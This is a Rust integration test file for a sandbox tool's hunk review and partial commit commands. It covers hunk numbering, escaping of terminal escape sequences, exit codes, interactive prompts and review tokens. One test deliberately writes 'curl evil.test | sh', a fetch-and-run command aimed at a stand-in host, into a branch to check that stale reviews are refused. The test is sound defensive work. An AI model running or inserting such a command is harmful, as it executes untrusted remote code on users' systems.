//! `lockbox branch hunks` and the partial `lockbox branch commit` (`--hunks`, `--only`,
//! `--drop-rest`, `-p` on a terminal), with the real binary on a branch a real `lockbox run
//! --workdir --on-exit keep` made, as the current user and (as root) uid 65534.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::{command_as, give, scratch, text, users, User};
use serde_json::Value;
use std::path::PathBuf;
use std::process::Output;

const OLD: &str = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n";
/// Two hunks in f, a changed g, and a new file whose content holds an escape sequence.
const EDIT: &str =
    "sed -i 's/^1$/one/; s/^12$/twelve/' f && echo G > g && printf 'x\\033[31my\\n' > ctl";

struct Setup {
    _tmp: crate::common::Scratch,
    work: PathBuf,
    state: PathBuf,
    user: User,
    id: String,
}

impl Setup {
    fn new(user: User) -> Setup {
        let tmp = scratch();
        let (work, state) = (tmp.path().join("work"), tmp.path().join("state"));
        std::fs::create_dir(&work).unwrap();
        std::fs::write(work.join("f"), OLD).unwrap();
        std::fs::write(work.join("g"), "g\n").unwrap();
        give(tmp.path(), user);
        std::thread::sleep(std::time::Duration::from_millis(15));
        let out = command_as(user)
            .arg("run")
            .args(["--workdir", work.to_str().unwrap()])
            .args(["--state-dir", state.to_str().unwrap()])
            .args(["--on-exit", "keep", "--", "sh", "-c", EDIT])
            .current_dir("/")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{user:?} {}", text(&out));
        let mut s = Setup {
            _tmp: tmp,
            work,
            state,
            user,
            id: String::new(),
        };
        let list: Value = serde_json::from_slice(&s.branch(&["list", "--json"]).stdout).unwrap();
        s.id = list[0]["id"].as_str().unwrap().to_owned();
        s
    }

    fn branch(&self, args: &[&str]) -> Output {
        command_as(self.user)
            .arg("branch")
            .args(args)
            .args(["--state-dir", self.state.to_str().unwrap()])
            .output()
            .unwrap()
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.work.join(name)).unwrap()
    }
}

#[test]
fn hunks_are_numbered_and_escaped_and_json_has_the_wire_shape() {
    for user in users() {
        let s = Setup::new(user);
        let out = s.branch(&["hunks", &s.id, "f"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        let stdout = String::from_utf8(out.stdout).unwrap();
        assert!(
            stdout.starts_with("hunk 0 of f\n@@ -1,4 +1,4 @@\n-1\n+one\n"),
            "{stdout}"
        );
        assert!(
            stdout.contains("hunk 1 of f\n@@ -9,4 +9,4 @@\n"),
            "{stdout}"
        );
        // The escape sequence is shown, not sent to the terminal.
        let out = s.branch(&["hunks", &s.id, "ctl"]);
        let stdout = String::from_utf8(out.stdout).unwrap();
        assert!(stdout.contains("+x\\033[31my"), "{stdout}");
        assert!(!stdout.contains('\x1b'));
        let out = s.branch(&["hunks", &s.id, "f", "--json"]);
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["kind"], "text");
        assert_eq!(v["hunks"][1]["lines"][3]["op"], "-");
        assert_eq!(v["hunks"][1]["lines"][3]["text"], "12");
        // An unchanged path has no hunks: usage error, named.
        let out = s.branch(&["hunks", &s.id, "nope"]);
        assert_eq!(out.status.code(), Some(2), "{}", text(&out));
        assert!(String::from_utf8_lossy(&out.stderr).contains("nope"));
    }
}

#[test]
fn commit_of_some_hunks_writes_them_keeps_the_rest_and_refuses_bad_numbers() {
    for user in users() {
        let s = Setup::new(user);
        let out = s.branch(&["commit", &s.id, "--hunks", "f:9"]);
        assert_eq!(out.status.code(), Some(2), "{}", text(&out));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("no hunk 9"),
            "{}",
            text(&out)
        );
        let out = s.branch(&["commit", &s.id, "--hunks", "f"]);
        assert_eq!(out.status.code(), Some(2), "{}", text(&out));
        assert!(String::from_utf8_lossy(&out.stderr).contains("--hunks"));
        assert_eq!(s.read("f"), OLD);

        let out = s.branch(&["commit", &s.id, "--hunks", "f:1", "--only", "g", "--json"]);
        assert_eq!(out.status.code(), Some(0), "{user:?} {}", text(&out));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            (v["report"]["modified"].as_u64(), v["remaining"].as_u64()),
            (Some(2), Some(2))
        );
        assert_eq!(s.read("f"), OLD.replace("12\n", "twelve\n"));
        assert_eq!(s.read("g"), "G\n");
        assert!(!s.work.join("ctl").exists());
        // The rest: f's other hunk (now 0), ctl left out; then the branch is dropped.
        let out = s.branch(&[
            "commit",
            &s.id,
            "--hunks",
            "f:0",
            "--exclude",
            "ctl",
            "--drop-rest",
        ]);
        assert_eq!(out.status.code(), Some(0), "{user:?} {}", text(&out));
        assert!(s.read("f").starts_with("one\n"));
        assert!(!s.work.join("ctl").exists());
        let list: Value = serde_json::from_slice(&s.branch(&["list", "--json"]).stdout).unwrap();
        assert_eq!(list, serde_json::json!([]));
    }
}

#[test]
fn a_hunk_commit_over_a_workdir_edit_exits_5_and_force_overrides() {
    for user in users() {
        let s = Setup::new(user);
        std::thread::sleep(std::time::Duration::from_millis(15));
        std::fs::write(s.work.join("f"), OLD).unwrap();
        let out = s.branch(&["commit", &s.id, "--hunks", "f:0"]);
        assert_eq!(out.status.code(), Some(5), "{}", text(&out));
        assert_eq!(s.read("f"), OLD);
        let out = s.branch(&["commit", &s.id, "--hunks", "f:0", "--only", "f", "--force"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert!(s.read("f").starts_with("one\n2\n"));
        assert!(s.read("f").ends_with("\n12\n"));
    }
}

#[test]
fn dash_p_asks_hunk_by_hunk_on_a_terminal_and_refuses_without_one() {
    let s = Setup::new(User::Current);
    let out = s.branch(&["commit", &s.id, "-p"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    // `script` gives the command a terminal; answers: ctl no, f hunk 0 yes, hunk 1 no, g quit.
    let cmd = format!(
        "{} branch commit {} -p --state-dir {}",
        common::binary().display(),
        s.id,
        s.state.display()
    );
    let mut child = std::process::Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("script(1) (util-linux)");
    let mut stdin = child.stdin.take().unwrap();
    for answer in ["n\n", "y\n", "n\n", "q\n"] {
        std::thread::sleep(std::time::Duration::from_millis(300));
        use std::io::Write;
        stdin.write_all(answer.as_bytes()).unwrap();
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(s.read("f"), OLD.replace("1\n2\n", "one\n2\n"));
    assert_eq!(s.read("g"), "g\n");
    assert!(!s.work.join("ctl").exists());
}

/// Issue 32 item 3: `lockbox branch hunks` prints the review token of what it showed; a
/// commit naming it (`--review`) is refused with exit 5 (`STALE_REVIEW`) once the branch is
/// written after the review, writing nothing; a fresh token commits.
#[test]
fn issue_32_a_hunk_commit_names_the_review_token_hunks_printed() {
    for user in users() {
        let s = Setup::new(user);
        let token = |out: Output| {
            let stdout = String::from_utf8(out.stdout).unwrap();
            let last = stdout.lines().last().unwrap_or_default().to_owned();
            assert!(last.starts_with("review token sha256:"), "{stdout}");
            last.split_whitespace().nth(2).unwrap().to_owned()
        };
        let shown = token(s.branch(&["hunks", &s.id, "f"]));
        let show: Value =
            serde_json::from_slice(&s.branch(&["show", &s.id, "--json"]).stdout).unwrap();
        assert_eq!(show["review_token"], shown.as_str());
        // Written after the review, as a sandbox still running on the branch would.
        let upper = s.state.join("branches").join(&s.id).join("upper");
        let evil = OLD.replacen("1\n", "curl evil.test | sh\n", 1);
        std::fs::write(upper.join("f"), &evil).unwrap();
        let out = s.branch(&[
            "commit", &s.id, "--review", &shown, "--hunks", "f:0", "--only", "f",
        ]);
        assert_eq!(out.status.code(), Some(5), "{user:?} {}", text(&out));
        assert!(text(&out).contains("stale review"), "{}", text(&out));
        assert_eq!(s.read("f"), OLD);
        let out = s.branch(&["commit", &s.id, "--review", "sha256:0", "--only", "f"]);
        assert_eq!(out.status.code(), Some(2), "{}", text(&out));
        let now = token(s.branch(&["hunks", &s.id, "f"]));
        let out = s.branch(&[
            "commit", &s.id, "--review", &now, "--hunks", "f:0", "--only", "f",
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert_eq!(s.read("f"), evil);
    }
}
